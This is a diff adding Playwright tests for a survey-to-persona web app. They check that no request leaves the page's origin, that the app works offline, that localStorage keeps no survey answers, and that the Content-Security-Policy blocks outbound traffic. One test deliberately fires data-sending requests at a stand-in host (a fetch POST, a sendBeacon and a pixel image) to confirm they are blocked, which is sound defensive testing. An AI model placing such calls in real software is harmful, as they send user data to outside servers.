@@ -1,0 +1,89 @@
+// No request leaves the page's own origin, and the Content-Security-Policy enforces it.
+import { test, expect } from "@playwright/test";
+import {
+  buildPersonas, clinicSurveyCsv, foreign, openApp, openLibrary, personaFile, personaJson,
+  recordRequests, saveToLibrary, tempFile, uploadSurvey,
+} from "./helpers.js";
+
+/** Upload, build, save, export, import: everything the app can do. */
+async function fullFlow(page) {
+  await uploadSurvey(page, tempFile("clinic.csv", clinicSurveyCsv()));
+  await page.getByLabel("Group respondents by").selectOption({ label: "Who do you live with? (4 answers)" });
+  await buildPersonas(page);
+  await saveToLibrary(page);
+  await openLibrary(page);
+  const download = page.waitForEvent("download");
+  await page.getByRole("button", { name: "Export all" }).click();
+  await (await download).path();
+  await page.getByLabel("Import personas").setInputFiles(tempFile("p.json", personaFile([personaJson()])));
+  await expect(page.getByRole("status")).toContainText("1 added");
+}
+
+test("a full flow makes no request to any other origin", async ({ page, context, baseURL }) => {
+  const urls = recordRequests(context);
+  await openApp(page);
+  await fullFlow(page);
+  const origin = new URL(baseURL).origin;
+  // The recorder works: it saw the app's own files.
+  expect(urls.filter((u) => u.endsWith(".wasm"))).toHaveLength(1);
+  expect(foreign(urls, origin)).toEqual([]);
+});
+
+test("after the first load the whole flow works with the network off", async ({ page, context, baseURL }) => {
+  const urls = recordRequests(context);
+  await openApp(page);
+  await context.setOffline(true);
+  await fullFlow(page);
+  expect(foreign(urls, new URL(baseURL).origin)).toEqual([]);
+});
+
+test("the Content-Security-Policy allows only the page's own origin and blocks the rest", async ({ page }) => {
+  const violations = [];
+  await page.exposeFunction("reportViolation", (v) => violations.push(v));
+  await page.addInitScript(() => {
+    document.addEventListener("securitypolicyviolation", (e) =>
+      window.reportViolation(`${e.violatedDirective} ${e.blockedURI}`),
+    );
+  });
+  await openApp(page);
+  // Loading the app itself breaks no rule.
+  expect(violations).toEqual([]);
+
+  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
+  expect(policy).toContain("default-src 'self'");
+  expect(policy).toContain("connect-src 'self'");
+  expect(policy).not.toContain("unsafe-inline");
+  expect(policy).not.toMatch(/https?:|\*/);
+
+  const attempts = await page.evaluate(async () => {
+    const result = {};
+    try {
+      await fetch("http://198.51.100.7/collect", { method: "POST", body: "x" });
+      result.fetch = "sent";
+    } catch {
+      result.fetch = "blocked";
+    }
+    // sendBeacon only queues; the policy blocks the send itself (checked below).
+    navigator.sendBeacon("http://198.51.100.7/beacon", "x");
+    const img = new Image();
+    img.src = "http://198.51.100.7/pixel.png";
+    return result;
+  });
+  expect(attempts).toEqual({ fetch: "blocked" });
+  const blocked = (directive, path) =>
+    violations.some((v) => v.startsWith(directive) && v.endsWith(path));
+  await expect.poll(() => blocked("img-src", "/pixel.png")).toBe(true);
+  await expect.poll(() => blocked("connect-src", "/beacon")).toBe(true);
+  expect(blocked("connect-src", "/collect")).toBe(true);
+});
+
+test("storage holds personas only: no survey answers, no identifiers", async ({ page }) => {
+  await openApp(page);
+  await fullFlow(page);
+  const stored = await page.evaluate(() => JSON.stringify({ ...localStorage }));
+  expect(stored).toContain("Who do you live with?: Alone");
+  for (const planted of ["@example.org", "patient1", "Comment number"]) {
+    expect(stored).not.toContain(planted);
+  }
+  expect(await page.evaluate(() => Object.keys(localStorage))).toEqual(["persona-builder.library"]);
+});
